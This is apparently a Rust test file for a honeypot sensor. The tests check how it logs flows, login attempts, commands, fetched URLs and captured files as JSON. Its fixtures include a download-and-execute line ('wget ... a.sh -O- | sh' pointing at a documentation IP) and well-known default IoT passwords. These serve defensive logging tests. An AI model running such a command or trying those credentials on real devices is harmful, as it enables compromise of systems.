//! What is written down of a flow.

use komainu_decode::{
    Command, Conversation, Fact, FileEvent, FileNumber, FileVia, Login, Oddity, OddityKind, Place, Protocol, Secret,
    Side, Transport,
};
use komainu_sensor::{Ending, Keeper, Passwords, Session, Sha256Digest, TargetKind};
use serde_json::json;

use crate::scene::{START, Scene};

fn client(bytes: u64) -> Place {
    Place { side: Side::Client, offset: 0, bytes }
}

/// Has a whole file told in `parts` by `side`.
fn carry(keeper: &mut Keeper, side: Side, parts: &[(u64, &[u8])], is_complete: bool) {
    let file = FileNumber(0);
    let place = Place { side, offset: 0, bytes: 0 };
    let via = FileVia::HttpRequest;
    keeper.fact(START, place, &Fact::File(FileEvent::Begin { file, name: b"/up\xff", via, bytes_expected: None }));
    for (offset, bytes) in parts {
        keeper.fact(START, place, &Fact::File(FileEvent::Part { file, offset: *offset, bytes }));
    }
    keeper.fact(START, place, &Fact::File(FileEvent::End { file, is_complete }));
}

#[test]
fn a_flow_that_shows_nothing_has_its_two_lines() {
    let scene = Scene::new(Passwords::Clear);
    let (eve, honeypot) = scene.end(scene.begin(TargetKind::Emulated));
    assert_eq!(
        eve,
        [json!({
            "timestamp": "2026-11-25T01:02:05.500004+0000",
            "flow_id": eve[0]["flow_id"],
            "event_type": "flow",
            "src_ip": "192.0.2.7",
            "src_port": 40000,
            "dest_ip": "198.51.100.1",
            "dest_port": 23,
            "proto": "TCP",
            "community_id": "1:kUOImQXNNUilPaTzuICSoBiCQiQ=",
            "host": "tokyo-1",
            "flow": {
                "bytes_toserver": 0,
                "bytes_toclient": 0,
                "start": "2026-11-25T01:02:03.000004+0000",
                "end": "2026-11-25T01:02:05.500004+0000",
                "age": 2,
                "state": "new",
                "reason": "timeout",
                "alerted": false,
            },
        })]
    );
    assert_eq!(honeypot.len(), 1);
    assert_eq!(honeypot[0]["event_type"], "honeypot");
    assert_eq!(honeypot[0]["flow_id"], eve[0]["flow_id"]);
    assert_eq!(
        honeypot[0]["honeypot"],
        json!({
            "session": {
                "id": honeypot[0]["honeypot"]["session"]["id"],
                "start": "2026-11-25T01:02:03.000004+0000",
                "end": "2026-11-25T01:02:05.500004+0000",
                "duration_ms": 2500,
                "ended": "closed",
            },
            "sensor": {"id": "tokyo-1", "country": "JP"},
            "target": {"kind": "emulated", "persona": "camera", "type": "ip_camera"},
            "bytes_toserver": 0,
            "bytes_toclient": 0,
        })
    );
}

#[test]
fn passwords_are_digests_unless_they_are_wanted() {
    let login = |password| Login { user: b"root", secret: Secret::Password(password), accepted: Some(false) };
    let told = |passwords| {
        let scene = Scene::new(passwords);
        let mut keeper = scene.begin(TargetKind::Emulated);
        for password in [b"xc3511", b"xc3511", b"vizxv1"] {
            keeper.fact(START, client(6), &Fact::Login(login(password)));
        }
        let (_, honeypot) = scene.end(keeper);
        let auth = &honeypot[3]["honeypot"]["auth"];
        assert_eq!(auth[0], honeypot[0]["login"]);
        auth.clone()
    };
    let clear = told(Passwords::Clear);
    assert_eq!(clear[0]["user"], "root");
    assert_eq!(clear[0]["password"], "xc3511");
    assert_eq!(clear[0]["accepted"], false);
    let hashed = told(Passwords::hashed(&[1; 32]));
    assert!(!hashed.to_string().contains("xc3511"));
    assert_eq!(hashed[0]["password_hmac_sha256"], hashed[1]["password_hmac_sha256"]);
    assert_ne!(hashed[0]["password_hmac_sha256"], hashed[2]["password_hmac_sha256"]);
    assert_ne!(hashed[0], told(Passwords::hashed(&[2; 32]))[0], "another sensor has another key");
}

#[test]
fn commands_and_what_they_would_fetch() {
    let scene = Scene::new(Passwords::Clear);
    let mut keeper = scene.begin(TargetKind::Emulated);
    let line = b"cd /tmp; wget http://192.0.2.9/a.sh -O- | sh";
    keeper.fact(START, client(9), &Fact::Command(Command { line }));
    keeper.fetch(START + 1, "wget", b"http://192.0.2.9/a.sh", Some(b"/tmp/a.sh"));
    keeper.fetch(START + 1, "wget", b"http://192.0.2.9/a.sh", Some(b"/tmp/a.sh"));
    let (_, honeypot) = scene.end(keeper);
    let types: Vec<_> = honeypot.iter().map(|line| line["event_type"].as_str().unwrap()).collect();
    assert_eq!(types, ["url", "command", "url", "honeypot"]);
    let summary = &honeypot[3]["honeypot"];
    assert_eq!(summary["commands"][0]["line"], std::str::from_utf8(line).unwrap());
    assert_eq!(summary["urls"], json!([{"url": "http://192.0.2.9/a.sh", "program": "wget", "to": "/tmp/a.sh"}]));
}

#[test]
fn files_are_stored_and_told() {
    let scene = Scene::new(Passwords::Clear);
    let mut keeper = scene.begin(TargetKind::Emulated);
    carry(&mut keeper, Side::Client, &[(3, b"def"), (0, b"abc")], true);
    carry(&mut keeper, Side::Client, &[(0, b"abc"), (4, b"x")], true);
    carry(&mut keeper, Side::Server, &[(0, b"our page")], true);
    keeper.captured(START, b"/tmp/.x", b"typed", "executed");
    let (eve, honeypot) = scene.end(keeper);
    let sha256 = Sha256Digest::of(b"abcdef");
    assert_eq!(
        eve[0]["fileinfo"],
        json!({
            "filename": "/up\\xff",
            "gaps": false,
            "state": "CLOSED",
            "sha256": sha256.to_string(),
            "stored": true,
            "size": 6,
        })
    );
    assert_eq!((&eve[1]["fileinfo"]["state"], &eve[1]["fileinfo"]["gaps"]), (&json!("TRUNCATED"), &json!(true)));
    assert_eq!((&eve[2]["fileinfo"]["stored"], &eve[2]["src_ip"]), (&json!(false), &json!("198.51.100.1")));
    assert_eq!(eve[3]["fileinfo"]["filename"], "/tmp/.x");
    assert_eq!(scene.artifacts.read(sha256).unwrap(), b"abcdef");
    assert_eq!(scene.artifacts.read(Sha256Digest::of(b"typed")).unwrap(), b"typed");
    assert_eq!(scene.artifacts.list().unwrap().len(), 3, "our own page is no artifact");
    let artifacts = &honeypot.last().unwrap()["honeypot"]["artifacts"];
    assert_eq!(artifacts[0]["via"], "http_request");
    assert_eq!((&artifacts[2]["via"], &artifacts[2]["why"]), (&json!("shell"), &json!("executed")));
    assert_eq!(artifacts[2]["kind"], "text");
}

#[test]
fn what_a_server_sends_in_a_capture_is_an_artifact() {
    let scene = Scene::new(Passwords::Clear);
    let mut keeper = scene.begin(TargetKind::Capture);
    carry(&mut keeper, Side::Server, &[(0, b"for the device")], false);
    let (eve, _) = scene.end(keeper);
    assert_eq!((&eve[0]["fileinfo"]["stored"], &eve[0]["fileinfo"]["state"]), (&json!(true), &json!("TRUNCATED")));
}

#[test]
fn a_file_that_never_ends_ends_with_its_flow() {
    let scene = Scene::new(Passwords::Clear);
    let mut keeper = scene.begin(TargetKind::Emulated);
    let (file, via) = (FileNumber(0), FileVia::HttpRequest);
    keeper.fact(START, client(0), &Fact::File(FileEvent::Begin { file, name: b"", via, bytes_expected: Some(9) }));
    keeper.fact(START, client(3), &Fact::File(FileEvent::Part { file, offset: 0, bytes: b"abc" }));
    let (eve, _) = scene.end(keeper);
    assert_eq!((&eve[0]["fileinfo"]["state"], &eve[0]["fileinfo"]["size"]), (&json!("TRUNCATED"), &json!(3)));
}

#[test]
fn oddities_are_anomalies_and_lines_have_a_bound() {
    let scene = Scene::new(Passwords::Clear);
    let mut keeper = scene.begin(TargetKind::Emulated);
    let oddity = Oddity { kind: OddityKind::Tolerated, what: "line_too_long" };
    for _ in 0..10_005 {
        keeper.fact(START, client(1), &Fact::Oddity(oddity));
    }
    let (eve, honeypot) = scene.end(keeper);
    assert_eq!(eve[0]["anomaly"], json!({"type": "applayer", "event": "line_too_long", "layer": "proto_parser"}));
    assert_eq!(eve.len(), 10_001);
    assert_eq!(honeypot[0]["honeypot"]["session"]["lines_left_out"], 5);
}

#[test]
fn one_flow_cannot_fill_the_store() {
    let scene = Scene::new(Passwords::Clear);
    let mut keeper = scene.begin(TargetKind::Emulated);
    for number in 0..300 {
        keeper.captured(START, b"/tmp/a", format!("file {number}").as_bytes(), "made_executable");
    }
    let (eve, _) = scene.end(keeper);
    assert_eq!(scene.artifacts.list().unwrap().len(), 256);
    assert_eq!(eve.iter().filter(|line| line["fileinfo"]["stored"] == false).count(), 44);
}

#[test]
fn what_is_said_inside_tls_is_told_by_its_own_protocol() {
    let scene = Scene::new(Passwords::Clear);
    let outside = Conversation::of(Protocol::Tls, Transport::Tcp, 443);
    let mut session = Session::new(scene.begin(TargetKind::Emulated), outside);
    session.begin_inside(Conversation::new(Transport::Tcp, 0));
    session.data(START, Side::Client, b"\x16\x03\x01");
    session.data_inside(START, Side::Client, b"GET /a HTTP/1.1\r\n\r\n");
    session.data_inside(START, Side::Server, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
    session.end(START, Ending::Closed);
    scene.log.flush();
    let told: Vec<_> =
        scene.eve.lines().iter().map(|line| (line["event_type"].clone(), line["app_proto"].clone())).collect();
    assert!(told.contains(&(json!("http"), json!("http"))), "{told:?}");
    assert_eq!(told.last(), Some(&(json!("flow"), json!("tls"))));
    let lines = scene.eve.lines();
    assert_eq!(lines.last().unwrap()["flow"]["bytes_toserver"], 3, "bytes count once, as they are carried");
}
